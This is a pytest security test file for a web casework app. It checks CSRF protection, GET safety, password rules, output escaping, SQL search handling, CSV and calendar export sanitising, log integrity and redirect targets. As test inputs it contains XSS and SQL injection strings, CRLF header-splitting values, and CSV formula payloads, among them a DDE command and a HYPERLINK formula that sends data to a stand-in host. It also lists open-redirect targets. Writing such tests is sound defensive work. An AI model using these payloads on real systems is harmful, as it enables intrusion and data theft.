"""CSRF, methods, passwords, injection, encoding and redirects: §5 #20–31 of ../shared/research/security.md.

Already proven elsewhere, not repeated here:
- #20 for the login and logout forms, a token of another browser, a token only in the query
  string, and the header token of htmx/fetch: tests/test_csrf.py. Here: every unsafe route of the app.
- #28 for the dashboard's CSV: tests/test_dashboard.py test_the_csv_neutralises_formulas_in_names
  (the client CSV is being built with its own tests). Here: the payroll CSV.
- #31 for the login form's `next`: tests/test_login.py test_login_returns_only_to_pages_of_this_site.
  Here: the language switch's `next` and encoded forms.
"""

from __future__ import annotations

import csv
import io
import json
import os
import unicodedata
from datetime import date

import httpx
import pytest
from icalendar import Calendar

from server.accounts.services import AccountError, add_user
from server.accounts.tables import Pair, User
from server.app import create_app
from server.casework.tables import Appointment, Client
from server.services.tables import Service
from tests.security.test_route_walk import TEAM_A_OBJECT, fill
from tests.support.casework import api, make_client
from tests.support.fixtures import PASSWORD, csrf_token, login, post_form
from tests.support.team_a import changes, make_team_a, snapshot

pytestmark = pytest.mark.anyio

UNSAFE = {"POST", "PUT", "PATCH", "DELETE"}


def _routes(wanted) -> list[tuple[str, set[str]]]:
    found = []
    for route in create_app().routes:
        methods = set().union(*(getattr(h, "http_methods", set()) for h in route.route_handlers)) - {"OPTIONS"}
        if wanted(route.path, methods):
            found.append((route.path, methods))
    return found


def _url(path: str, team_a) -> str:
    return fill(path, lambda name: TEAM_A_OBJECT[name][0](team_a) if name in TEAM_A_OBJECT else "1")


# -- #20, #21: CSRF -----------------------------------------------------------------------------------


async def test_every_unsafe_route_refuses_a_missing_or_foreign_csrf_token(client, world):
    """#20: built from the app: every POST/PATCH/DELETE, logged in as the lead of team A on its own
    objects, without a token, with another browser's token, and with the token only in the query."""
    team_a = await make_team_a(world)
    await login(client, "lena@example.org")
    own_token = client.cookies["csrftoken"]
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=create_app()), base_url="http://testserver.local"
    ) as other_browser:
        other = await csrf_token(other_browser)
    assert other != own_token
    routes = _routes(lambda path, methods: bool(methods & UNSAFE))
    assert len(routes) >= 40
    before = await snapshot()
    problems = []
    for path, methods in routes:
        url = _url(path, team_a)
        for method in sorted(methods & UNSAFE):
            for attempt, kwargs in {
                "no token": {"data": {"x": "1"}},
                "no token, json": {"json": {}},
                "foreign header": {"json": {}, "headers": {"x-csrftoken": other}},
                "foreign form": {"data": {"_csrf_token": other}},
                "query only": {"json": {}, "params": {"_csrf_token": own_token, "csrftoken": own_token}},
            }.items():
                response = await client.request(method, url, **kwargs)
                if response.status_code != 403:
                    problems.append(f"{method} {url} ({attempt}): {response.status_code}")
    assert problems == []
    assert changes(before, await snapshot(), ignore={"login_failure"}) == {}


async def test_a_cross_site_form_post_without_the_lax_cookies_is_refused(client, world):
    """#21: a form on another site posts to /visits; SameSite=Lax keeps the session and CSRF cookies
    home, so the request arrives with neither and is refused (and stores nothing)."""
    team_a = await make_team_a(world)
    answer = await login(client, "alice@example.org")
    set_cookies = answer.headers.get_list("set-cookie")
    assert set_cookies and all("samesite=lax" in c.lower() for c in set_cookies)
    client.cookies.clear()  # what a cross-site POST carries under SameSite=Lax
    before = await snapshot()
    response = await client.post(
        "/visits",
        data={"client_id": str(team_a.client), "kind": "street"},
        headers={"Origin": "https://evil.example", "Referer": "https://evil.example/"},
    )
    assert response.status_code in (401, 403)
    assert changes(before, await snapshot()) == {}


async def test_a_post_with_a_foreign_origin_is_refused_even_with_a_valid_token(client, world):
    """#21, second half: `Origin: https://evil.example` on an otherwise valid request."""
    team_a = await make_team_a(world)
    await login(client, "alice@example.org")
    response = await client.post(
        f"/clients/{team_a.client}/followups",
        data={"_csrf_token": client.cookies["csrftoken"], "due_at": "2026-11-24T09:00", "note": "x"},
        headers={"Origin": "https://evil.example"},
    )
    assert response.status_code == 403
    # The same request from this site's own page goes through, and so does one from a phone's
    # service worker (Sec-Fetch-Site: same-origin, no Origin).
    for headers in ({"Origin": "http://testserver.local"}, {"Sec-Fetch-Site": "same-origin"}):
        sent = await client.post(
            f"/clients/{team_a.client}/followups",
            data={"_csrf_token": client.cookies["csrftoken"], "due_at": "2026-11-24T09:00", "note": "x"},
            headers=headers,
        )
        assert sent.status_code == 303, headers
    refused = await client.post(
        f"/clients/{team_a.client}/followups",
        data={"_csrf_token": client.cookies["csrftoken"], "due_at": "2026-11-24T09:00", "note": "x"},
        headers={"Sec-Fetch-Site": "cross-site"},
    )
    assert refused.status_code == 403


# -- #22: GET changes nothing ---------------------------------------------------------------------------


async def test_get_on_a_route_that_changes_things_is_405_and_changes_nothing(client, world):
    """#22: every route that has only unsafe methods answers GET with 405 (logout, subscribe, ...)."""
    team_a = await make_team_a(world)
    await login(client, "lena@example.org")
    routes = _routes(lambda path, methods: methods and methods <= UNSAFE)
    assert {"/logout", "/api/v1/push/subscriptions/remove", "/clients/{client_id:int}/followups"} <= {
        p for p, _ in routes
    }
    before = await snapshot()
    problems = [
        f"GET {path}: {answer.status_code}"
        for path, _ in routes
        if (answer := await client.get(_url(path, team_a))).status_code != 405
    ]
    assert problems == []
    assert (await client.get(f"/visits/{team_a.visit}/delete")).status_code == 404  # no such route at all
    assert (await client.get("/api/v1/me")).status_code == 200  # still logged in
    assert changes(before, await snapshot()) == {}


# -- #23: passwords -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("password", ["salasana1", "Rinnalla2025", "qwerty123"])
async def test_common_passwords_are_refused(db, password):
    with pytest.raises(AccountError):
        await add_user("new@example.org", "admin", password, None, "New")
    assert await User.count() == 0


@pytest.mark.parametrize("password", ["kaksi sataa merkkiä " * 10 + "ja loppu", "päivä ☀ kaveri"])
async def test_long_and_unicode_passphrases_are_kept_and_verify_exactly(client, db, password):
    await add_user("new@example.org", "admin", password, None, "New")
    assert (await login(client, "new@example.org", password)).status_code == 303
    client.cookies.clear()
    # The same letters typed another way (ä as a + combining diaeresis) are the same password...
    assert (await login(client, "new@example.org", unicodedata.normalize("NFD", password))).status_code == 303
    client.cookies.clear()
    # ...but one character less is not.
    assert (await login(client, "new@example.org", password[:-1])).status_code == 401


# -- #24: stored verbatim, shown escaped ---------------------------------------------------------------------

NASTY = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "${7*7}"]


@pytest.mark.parametrize("name", NASTY)
async def test_markup_in_a_name_is_stored_verbatim_and_shown_escaped(client, world, name):
    pair = (await Pair.select(Pair.id).first())["id"]
    await login(client, "alice@example.org")
    created = await api(client, "POST", "/api/v1/clients", {"pseudonym": name, "pair_id": pair})
    assert created.status_code == 201
    client_id = created.json()["id"]
    assert (await Client.select(Client.pseudonym).first())["pseudonym"] == name
    assert created.headers["content-type"].startswith("application/json")
    assert json.loads(created.text)["pseudonym"] == name  # JSON carries it as data, never as markup
    token = client.cookies["csrftoken"]
    views = [
        await client.get(f"/clients/{client_id}"),
        await client.get("/clients?status=active"),
        await client.post(
            "/clients/search", data={"q": name[:20], "_csrf_token": token}, headers={"HX-Request": "true"}
        ),
    ]
    for view in views:
        assert view.status_code == 200
        assert "<script>alert" not in view.text and "<img src=x" not in view.text
        if "7*7" in name:
            assert name in view.text  # shown literally: no template evaluation
        else:
            assert name.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;") in view.text


async def test_a_javascript_address_is_refused_as_a_services_web_link(client, world):
    """#24: the one "link" field a person types (a local service's web page) takes https:// only."""
    await login(client, "lena@example.org")
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>x</script>",
        " javascript:alert(1)",
    ):
        response = await post_form(client, "/services", {"name_fi": "Testi", "category": "housing", "web": address})
        assert response.status_code == 422, address
    assert await Service.count() == 0


# -- #25: htmx headers ---------------------------------------------------------------------------------------


async def test_htmx_headers_choose_a_template_never_the_rights_or_the_body(client, world):
    """#25: forged HX-* values are never reflected, and a partial is no way around a wall (the
    route walk asks every id route with `HX-Request: true` too)."""
    team_a = await make_team_a(world)
    await login(client, "alice@example.org")
    forged = {
        "HX-Request": "true",
        "HX-Current-URL": "https://evil.example/<b>forged-url</b>",
        "HX-Target": 'forged-target"><script>x</script>',
        "HX-Trigger-Name": "forged-trigger",
    }
    for path in (f"/clients/{team_a.client}", "/clients", "/", "/settings"):
        response = await client.get(path, headers=forged)
        assert response.status_code == 200, path
        for value in ("forged-url", "forged-target", "forged-trigger", "evil.example"):
            assert value not in response.text, (path, value)
    client.cookies.clear()
    await login(client, "dave@example.org")
    assert (await client.get(f"/clients/{team_a.client}", headers=forged)).status_code == 404


# -- #26: response headers ------------------------------------------------------------------------------------


async def test_download_names_are_fixed_and_a_line_break_cannot_split_a_header(client, world):
    """#26: Content-Disposition names come from the code (appointment-<id>.ics, dashboard.csv...),
    never from a typed name; a CR/LF smuggled into a path is just a 404."""
    team_a = await make_team_a(world)
    await Client.update({Client.pseudonym: "x\r\nSet-Cookie: evil=1"}).where(Client.id == team_a.client)
    await login(client, "lena@example.org")
    for path in (
        f"/appointments/{team_a.appointment}.ics",
        f"/api/v1/appointments/{team_a.appointment}.ics",
        "/api/v1/dashboard.csv",
        "/api/v1/hours.csv",
    ):
        response = await client.get(path)
        assert response.status_code == 200, path
        disposition = response.headers["content-disposition"]
        assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
        assert "evil" not in " ".join(response.headers.keys()) and "evil" not in response.headers.get("set-cookie", "")
    for smuggled in (
        f"/appointments/{team_a.appointment}%0d%0aSet-Cookie:%20evil=1.ics",
        f"/api/v1/appointments/{team_a.appointment}.ics%0d%0aX-Evil:%201",
    ):
        response = await client.get(smuggled)
        assert response.status_code == 404 and "evil" not in response.headers.get("set-cookie", "")


# -- #27: search -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query, same_as",
    [
        ("' OR 1=1--", None),
        ("'; DROP TABLE client;--", None),
        ("Ke' OR '1'='1", None),
        # The documented rule (server/casework/clients.py list_clients): LIKE wildcards a person types
        # are dropped, not matched; so they find what the rest of the query finds, never more, and
        # never another team's clients.
        ("%", ""),
        ("_", ""),
        ("\\", ""),
        ("%%", ""),
        ("Ket%", "Ket"),
        ("K_ttu", "Kttu"),
    ],
)
async def test_search_takes_sql_as_letters_and_drops_wildcards(client, world, query, same_as):
    """#27."""
    pair = (await Pair.select(Pair.id).first())["id"]
    for name in ("Kettu", "Make"):
        await make_client(world.team_a, name, pair)
    await make_client(world.team_b, "Vieras")
    await login(client, "alice@example.org")
    found = await api(client, "POST", "/api/v1/clients/search", {"q": query})
    assert found.status_code == 200
    expected = (
        0 if same_as is None else (await api(client, "POST", "/api/v1/clients/search", {"q": same_as})).json()["total"]
    )
    assert found.json()["total"] == expected
    page = await post_form(client, "/clients/search", {"q": query})
    assert page.status_code == 200 and "Vieras" not in page.text
    if same_as is None:
        assert "Kettu" not in page.text and "Make" not in page.text
    assert await Client.count() == 3


async def test_a_nul_in_a_search_is_refused_not_a_server_error(client, world):
    await make_client(world.team_a, "Kettu")
    await login(client, "alice@example.org")
    assert (await api(client, "POST", "/api/v1/clients/search", {"q": "Ke\x00ttu"})).status_code == 422
    assert (await post_form(client, "/clients/search", {"q": "Ke\x00ttu"})).status_code in (200, 422)


# -- #28: CSV formulas ------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil/?"&A1,"x")', "+SUM(1)", "-1+1", "@cmd", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


async def test_the_payroll_csv_neutralises_formulas_in_names(client, world):
    """#28 for the payroll CSV (the dashboard's is tests/test_dashboard.py)."""
    from server.rhythm.tables import HoursEntry

    for number, formula in enumerate(FORMULAS):
        user = await add_user(f"f{number}@example.org", "experience_expert", PASSWORD, "Team A", formula)
        await HoursEntry.insert(
            HoursEntry(user=user, team=world.team_a, worked_on=date.today(), activity="street_work", minutes=60)
        )
    await login(client, "lena@example.org")
    response = await client.get("/api/v1/hours.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    names = [row[1] for row in rows[1:]]
    # Names are stored stripped (add_user), so "\t=1" and "\r=1" arrive as "=1": quoted all the same.
    assert sorted(names) == sorted("'" + f.strip() for f in FORMULAS)


# -- #29: calendar files --------------------------------------------------------------------------------------------


async def test_an_appointment_cannot_inject_calendar_properties_or_events(client, world):
    pair = (await Pair.select(Pair.id).first())["id"]
    client_id = await make_client(world.team_a, "Kettu", pair)
    await login(client, "alice@example.org")
    place = "Kela\r\nATTENDEE:mailto:x@evil.example\nBEGIN:VEVENT, ; \\" + "x" * 150
    created = await api(
        client,
        "POST",
        "/api/v1/appointments",
        {
            "client_id": client_id,
            "starts_at": "2026-11-25T09:00",
            "place": place,
            "with_whom": "a,b;c\r\nORGANIZER:mailto:y@evil.example",
            "note": "Salainen",
        },
    )
    assert created.status_code in (201, 422)
    if created.status_code == 422:
        assert await Appointment.count() == 0
        return
    response = await client.get(f"/appointments/{created.json()['id']}.ics")
    text = response.text
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    calendar = Calendar.from_ical(text)
    events = [c for c in calendar.walk() if c.name == "VEVENT"]
    assert len(events) == 1
    assert "ATTENDEE" not in events[0] and "ORGANIZER" not in events[0]
    assert "Kettu" not in text and "Salainen" not in text  # the calendar syncs to Google/Apple


# -- #30: log injection ----------------------------------------------------------------------------------------------


async def test_a_line_break_in_a_login_name_cannot_forge_a_log_line(client, world):
    """#30: the app logs no typed login name at all; and whatever a person types that ever reaches
    a log record stays inside one JSON line (server/observability/logs.py)."""
    import logging

    log_file = os.environ["LOG_FILE"]
    start = os.path.getsize(log_file) if os.path.exists(log_file) else 0
    forged = "a\r\n2025-01-01 INFO login ok admin"
    assert (await login(client, forged, "wrong password")).status_code in (401, 422)
    await client.get("/login?next=%0d%0a2025-01-01%20INFO%20forged")
    logging.getLogger("rinnalla.security-test").warning("refused login for %s", forged)
    for handler in logging.getLogger().handlers:
        handler.flush()
    with open(log_file, encoding="utf-8") as log:
        log.seek(start)
        lines = log.read().splitlines()
    records = [json.loads(line) for line in lines]  # every line is one JSON object
    assert not any(line.startswith("2025-01-01") for line in lines)
    assert [r["message"] for r in records if "login ok admin" in r["message"]] == [f"refused login for {forged}"]


# -- #31: redirects --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.tld",
        "//evil.tld",
        "/\\evil.tld",
        "javascript:alert(1)",
        "/%2F%2Fevil.tld",
        "\t//evil.tld",
        "/\t/evil.tld",
        "https:evil.tld",
        "//evil.tld/%2F..",
        "\\\\evil.tld",
    ],
)
async def test_the_language_switch_returns_only_to_pages_of_this_site(client, world, target):
    token = await csrf_token(client)
    response = await client.post("/language", data={"language": "sv", "next": target, "_csrf_token": token})
    location = response.headers["location"]
    assert location.startswith("/") and not location.startswith("//") and "\\" not in location
    assert "evil" not in location or location.startswith("/%2F")
    login_answer = await login(client, "alice@example.org", next=target)
    assert login_answer.headers["location"] in ("/", target if target.startswith("/%2F") else "/")
